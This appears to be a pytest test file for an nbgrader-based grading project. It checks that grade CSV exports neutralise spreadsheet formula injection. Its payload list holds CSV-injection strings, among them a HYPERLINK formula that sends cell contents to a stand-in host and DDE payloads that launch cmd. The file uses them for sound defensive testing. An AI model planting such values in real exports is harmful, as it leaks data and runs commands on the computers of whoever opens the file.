"""Every CSV the project writes opens in a spreadsheet as data (grading/reports/spreadsheet.py): a roster
name that is a formula reaches grades.csv and the LMS grades files (grades-canvas.csv,
grades-moodle.csv, grades-moodle-worksheet.csv) as text.

The files are read as a spreadsheet reads a CSV: fields unquoted (RFC 4180, as Excel, LibreOffice
Calc and Google Sheets do), then a cell whose text starts with ``=``, ``+``, ``-`` or ``@`` (after
any leading tab, carriage return or space, which some of them drop) and is not a plain number
is a formula they would run; one starting with ``'`` is shown as the text after it.
"""
import csv
import re
import sys
from pathlib import Path

import pytest
from nbgrader.api import Gradebook

from course_helpers import make_course, run
from grading.hosting.lms import export_grades
from grading.reports.spreadsheet import safe_cell, write_csv

REPO = Path(__file__).resolve().parents[1]
NUMBER = re.compile(r"[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?")
PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A2,"open")', "+1+cmd|' /C calc'!A0", "-2+3",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "=1+1"]


def spreadsheet_cells(path):
    """The cells of a CSV file as a spreadsheet takes them: (formulas it would run, every cell's
    shown text)."""
    with open(path, newline="", encoding="utf-8") as fh:
        rows = list(csv.reader(fh))
    formulas, shown = [], []
    for row in rows:
        for cell in row:
            text = cell.lstrip(" \t\r\n")
            if text[:1] in ("=", "+", "-", "@") and not NUMBER.fullmatch(text):
                formulas.append(cell)
            shown.append(cell[1:] if cell.startswith("'") else cell)
    return formulas, shown, rows


def test_the_reader_sees_a_formula_where_a_spreadsheet_would():  # the check itself can fail
    assert [safe_cell(p) for p in ["-2.5", "abc", "a=b", 3, -4.5, None]] == ["'-2.5", "abc", "a=b", 3, -4.5, None]
    raw = Path(__file__).with_name("raw.csv")
    try:
        with open(raw, "w", newline="", encoding="utf-8") as fh:  # as a writer without the helper would
            csv.writer(fh).writerows([p, -1.5, "+2"] for p in PAYLOADS)
        formulas, _, _ = spreadsheet_cells(raw)
        assert formulas == PAYLOADS
    finally:
        raw.unlink()


def test_write_csv_neutralises_every_formula_and_keeps_the_text(tmp_path):
    rows = [["name", "score"], *([p, -1.5] for p in PAYLOADS), ['a "quoted", comma\nnewline', 0]]
    write_csv(tmp_path / "out.csv", rows)
    formulas, shown, parsed = spreadsheet_cells(tmp_path / "out.csv")
    assert formulas == []
    assert all(p in shown for p in PAYLOADS) and 'a "quoted", comma\nnewline' in shown
    assert [r[1] for r in parsed[1:]] == ["-1.5"] * len(PAYLOADS) + ["0"]  # numbers stay numbers
    assert [p.name for p in tmp_path.iterdir()] == ["out.csv"]  # no temporary file left


@pytest.fixture(scope="module")
def hostile_roster(tmp_path_factory):
    """A course whose gradebook has a benign student with a submission and students whose
    names, email and ids are formulas (as an LMS where students edit their names would send)."""
    root = make_course(tmp_path_factory.mktemp("csv") / "course")
    with Gradebook(f"sqlite:///{root / 'gradebook.db'}") as gb:
        gb.add_student("alice", first_name="Alice", last_name="Liddell", email="alice@example.edu",
                       lms_user_id="1001")
        gb.add_submission("conceptual", "alice")
        for i, payload in enumerate(PAYLOADS):  # each with a submission: the grades files have rows for those only
            gb.add_student(f"s{i}", first_name=payload, last_name=payload, email=f"{payload}{i}",
                           lms_user_id=str(2000 + i))
            gb.add_submission("conceptual", f"s{i}")
        gb.add_student("=evil()", first_name="Eve", last_name="Formula, Jr.", lms_user_id="3000")
        gb.add_submission("conceptual", "=evil()")
    return root


def test_lms_exports_open_without_a_formula(hostile_roster):
    paths, _, _ = export_grades(hostile_roster)
    assert sorted(p.name for p in paths) == ["grades-canvas.csv", "grades-moodle-worksheet.csv", "grades-moodle.csv"]
    for path in paths:
        formulas, shown, rows = spreadsheet_cells(path)
        assert formulas == [], (path.name, formulas)
        assert all(any(p in cell for cell in shown) for p in PAYLOADS), path.name  # the names are there, as text
        assert len({len(r) for r in rows}) == 1, path.name  # every row has the header's columns


def test_nbgrader_export_grades_csv_opens_without_a_formula_and_is_nbgraders_file_otherwise(hostile_roster):
    root = hostile_roster
    run([sys.executable, "-m", "nbgrader", "export", "--log-level=WARN"], cwd=root)
    formulas, shown, rows = spreadsheet_cells(root / "grades.csv")
    assert formulas == []
    assert "=evil()" in shown and all(p in shown for p in PAYLOADS)
    assert {len(r) for r in rows} == {11}  # "Formula, Jr." stays one cell (nbgrader's own would split it)
    # nbgrader's own plugin: the same header and the same line for every student with harmless values
    run([sys.executable, "-m", "nbgrader", "export", "--exporter=nbgrader.plugins.CsvExportPlugin",
         "--to=stock.csv", "--log-level=WARN"], cwd=root)
    ours, stock = (root / "grades.csv").read_text().splitlines(), (root / "stock.csv").read_text().splitlines()
    assert ours[0] == stock[0]
    alice = [line for line in ours if ",alice," in line]
    assert len(alice) == 1 and alice[0] in stock and alice[0].endswith(",0.0,0.0,0.0,100.0"), alice
    stock_formulas, _, _ = spreadsheet_cells(root / "stock.csv")
    assert "=evil()" in stock_formulas  # what the course's plugin prevents


def test_no_csv_writer_in_grading_or_bench_but_the_one_helper():
    writers = re.compile(r"csv\.(writer|DictWriter)\b|\.write\(\s*\",\"\.join")
    sources = [path for folder in ("grading", "bench") for path in (REPO / folder).rglob("*.py")]
    found = [f"{path.relative_to(REPO)}:{n}" for path in sources if path.name != "spreadsheet.py"
             for n, line in enumerate(path.read_text().splitlines(), 1) if writers.search(line)]
    assert found == [], f"CSV written without grading/reports/spreadsheet.py's write_csv: {found}"
    assert writers.search('csv.writer(fh)') and writers.search('fh.write(",".join(keys))')
